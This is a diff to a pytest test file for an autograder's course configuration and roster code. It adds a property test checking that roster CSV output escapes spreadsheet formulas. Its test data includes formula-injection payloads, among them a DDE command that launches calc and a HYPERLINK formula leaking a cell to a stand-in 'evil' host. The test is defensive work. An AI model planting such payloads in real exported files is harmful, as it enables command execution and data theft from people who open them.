@@ -2,15 +2,20 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from autograder import course
-from autograder.course import Course, CourseError, people
+from autograder.course import Course, CourseError, people, roster
 
 SOUND = """
 [course]
@@ -159,6 +164,11 @@ MISTAKES = [
             "(it is 'grades.db')"),
     Mistake("a key that stands twice", SOUND + "points = 5\n",
             "not valid TOML: Cannot overwrite a value (at line 13, column 11)"),
+    Mistake("a due date that is no time, where the zone is said", changed(
+            "2026-10-12T23:59:00+02:00", '"tomorrow"').replace(
+                "name = \"Conv", 'timezone = "Europe/Berlin"\nname = "Conv'),
+            "assignments.lab.due: 'tomorrow' is not a time; write for example 2026-10-12T23:59:00, "
+            "as clocks in the course's timezone show it"),
     Mistake("what is no TOML", SOUND + "points 5\n",
             "not valid TOML: Expected '=' after a key in a key/value pair (at line 13, column 8)"),
 ]
@@ -256,6 +266,26 @@ def test_dates_without_an_offset_are_by_the_courses_clocks(tmp_path: Path) -> No
     assert found.due("lab", "ann") == datetime(2026, 10, 26, 22, 59, tzinfo=UTC)  # in winter
 
 
+FORMULAS = ["", "@SUM(1+9)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil/?"&C2;"click")', "'=1",
+            "''+1", "a;-b", "Ben'-Ami", "O'Hara", "\uff1d1"]
+
+
+@given(st.lists(st.sampled_from(FORMULAS) | st.text("ab=+-@;,|'\" ", max_size=8),
+                min_size=3, max_size=3))
+def test_no_name_of_the_people_is_a_formula_and_each_is_read_as_it_is(texts: list[str]) -> None:
+    name, section, login = (" ".join(each.split()) for each in texts)
+    person = roster.Person("ann", name, section=section, ids={"login": login} if login else {})
+    text = roster.written([person])
+    for separator in ",;\t":
+        for row in csv.reader(io.StringIO(text), delimiter=separator):
+            assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@＝"))]
+    with TemporaryDirectory() as folder:
+        course = loaded(Path(folder), SOUND)
+        (Path(folder) / "people.csv").write_text(text, encoding="utf-8")
+        assert roster.load(course).people == {"ann": person}
+        assert roster.written(roster.load(course).people.values()) == text
+
+
 @pytest.mark.parametrize("name", ["ann", " Ann", "ANN ", "a\u200bnn", "\uff41nn"])
 def test_an_extension_is_found_by_whatever_spelling(name: str, tmp_path: Path) -> None:
     found = loaded(tmp_path, SOUND + f'[extensions."{name}"]\nlab = 2026-10-20T12:00:00Z\n')
@@ -274,3 +304,4 @@ def test_an_extension_to_an_earlier_date_takes_nothing_and_is_told(tmp_path: Pat
 def test_who_is_nobody_is_told_with_near_names() -> None:
     typed, others = people.strangers(["annna", "ben", "zoe"], ["anna", "Ben ", "cyd"])
     assert typed == ["'annna' is nobody here; did you mean 'anna'?"] and others == ["zoe"]
+    assert people.strangers(["20011"], ["20001"]) == ([], ["20011"])  # a number is like many
